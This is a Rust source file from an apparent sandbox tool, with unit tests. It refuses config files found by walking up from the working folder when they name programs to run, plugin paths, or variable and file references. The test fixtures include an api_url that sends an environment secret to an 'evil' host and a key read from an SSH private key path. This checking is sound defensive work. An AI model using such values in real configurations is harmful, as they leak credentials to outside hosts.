//! What a file may not say that was only found on the way up from the working folder: whoever wrote the folder that
//! somebody happens to be in must not choose what runs on this machine, nor what of it is sent somewhere.

use sandbox_core::{ErrorKind, Result, SandboxError};
use serde_json::Value;

use super::{ConfigFile, ConfigFileKind, values};

/// Endings of the names of settings whose value gets run.
const RUNS_SOMETHING: [&str; 6] = ["binary", "command", "executable", "helper", "agent_path", "credential_process"];

/// Refuses plugin paths, programs, commands, and references to variables and files in a file that was only found.
pub(super) fn check(file: &ConfigFile, value: &Value) -> Result<()> {
    if file.kind != ConfigFileKind::Found {
        return Ok(());
    }
    let below = |key: &'static str| value.get(key).map(|value| (key, value));
    let parts: Vec<_> = ["providers", "blocks"].into_iter().filter_map(below).collect();
    let offender = match value.pointer("/plugins/path") {
        Some(_) => Some("plugins.path".to_owned()),
        None => {
            parts.iter().find_map(|(key, value)| offender(key, value).or_else(|| values::first_reference(value, key)))
        }
    };
    let Some(field) = offender else { return Ok(()) };
    let path = file.path.display();
    let message =
        format!("{path}: {field} is not taken from a file that was found by walking up from the working folder");
    Err(SandboxError::new(ErrorKind::PermissionDenied, message)
        .with_field(field)
        .with_help(format!("move it to your own config (sandboxctl config path shows where), or say: --config {path}")))
}

/// The path of the first setting that names something to run.
fn offender(path: &str, value: &Value) -> Option<String> {
    match value {
        Value::Object(map) => map.iter().find_map(|(key, value)| {
            let path = format!("{path}.{key}");
            let is_setting = path.matches('.').count() >= 2;
            if is_setting && RUNS_SOMETHING.iter().any(|ending| key.ends_with(ending)) {
                return Some(path);
            }
            offender(&path, value)
        }),
        Value::Array(values) => values.iter().find_map(|value| offender(path, value)),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use sandbox_core::ErrorKind;
    use serde_json::json;

    use super::{ConfigFile, ConfigFileKind, check};

    fn file(kind: ConfigFileKind) -> ConfigFile {
        ConfigFile::new("/p/sandbox.toml".into(), kind)
    }

    #[test]
    fn a_found_file_may_not_say_what_is_run_nor_what_is_sent() {
        for value in [
            json!({"plugins": {"path": []}}),
            json!({"providers": {"docker": {"docker_binary": "/x"}}}),
            json!({"providers": {"docker": {"auth": {"credentials_command": "x"}}}}),
            json!({"providers": {"local": {"list": [{"agent_path": "x"}]}}}),
            json!({"blocks": {"b": {"docker": {"docker_binary": "/x"}}}}),
            json!({"providers": {"daytona": {"api_key": {"from_file": "/home/me/.ssh/id"}}}}),
            json!({"providers": {"daytona": {"api_url": "https://evil/${oc.env:SECRET}"}}}),
        ] {
            let error = check(&file(ConfigFileKind::Found), &value).unwrap_err();
            assert_eq!(error.kind(), ErrorKind::PermissionDenied, "{value}");
            assert!(error.help().is_some_and(|help| help.contains("--config")));
            check(&file(ConfigFileKind::User), &value).unwrap();
            check(&file(ConfigFileKind::Given), &value).unwrap();
        }
    }

    #[test]
    fn the_rest_is_taken_also_a_provider_with_such_a_name() {
        let value =
            json!({"provider": "x", "providers": {"my-helper": {"host": "h"}, "local": {"workspace_root": "/w"}}});
        check(&file(ConfigFileKind::Found), &value).unwrap();
    }
}
